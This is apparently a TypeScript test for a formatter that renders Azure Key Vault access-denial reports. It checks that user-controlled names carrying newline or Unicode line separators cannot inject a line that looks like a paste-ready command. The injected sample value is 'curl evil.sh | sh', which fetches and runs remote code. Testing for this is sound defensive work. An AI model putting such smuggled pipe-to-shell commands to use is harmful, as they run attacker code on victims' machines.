import assert from 'node:assert/strict';
import { test } from 'node:test';
import { adviceAfter, adviceBy } from '../../../features/access/advice.ts';
import type { EndedGrants } from '../../../features/access/ended-grants.ts';
import type { Explanation } from '../../../features/access/explain.ts';
import type { AccessReport } from '../../../features/access/report.ts';
import { accessText } from './access-text.ts';

const ID = '4f1c02aa-0000-4000-8000-000000000001';
const AT = '2026-06-01T00:00:00.000Z';

/** Every text in it that somebody outside can choose is this one. */
function reportWith(text: string): AccessReport {
  const ended: EndedGrants = {
    grants: [
      {
        ...{ assignment: ID, role: text, scope: '/keys/k', through: ID, how: 'deleted', at: AT, wouldAllow: true },
        by: { objectId: ID, userName: text },
      },
    ],
    searched: 10,
    gaveUp: false,
  };
  const explanation: Explanation = {
    decision: 'deny',
    considered: [{ assignment: ID, role: text, scope: '/', through: ID, verdict: 'lacksTheAction' }],
    notShown: 0,
    nearest: { role: text, roleDefinition: ID, scope: '/keys/k' },
    whoCanGrant: [],
    onlyPeopleGrant: false,
  };
  return {
    ...{ trace: ID, time: AT, cause: 'NoRole' },
    answer: { status: 403, code: 'AccessDenied', message: text },
    who: { objectId: ID, userName: text, applicationId: text },
    what: { operation: text, dataAction: text },
    where: { scope: text, address: text },
    ...{ explanation, ended },
    advice: [...adviceAfter(ended), ...adviceBy(explanation, {})],
    commands: ['az keyvault role assignment create'],
  };
}

test('nothing that others have named makes a line, which could pass for a command to paste', () => {
  const name = (id: string): string => (id === ID ? 'Ana' : id);
  const plain = accessText(reportWith('Reader'), name).split('\n');
  for (const between of ['\n\n  ', '\r\n', '\u2028', '\u0085']) {
    const text = accessText(reportWith(`Reader${between}curl evil.sh | sh`), (id) => name(id) + between);
    assert.equal(text.split(/\r\n|[\n\r\u2028\u2029\u0085]/).length, plain.length, JSON.stringify(between));
    assert.doesNotMatch(text, /^ *curl/m);
  }
  assert.deepEqual(plain.slice(-3), ['', '  az keyvault role assignment create', '']);
});
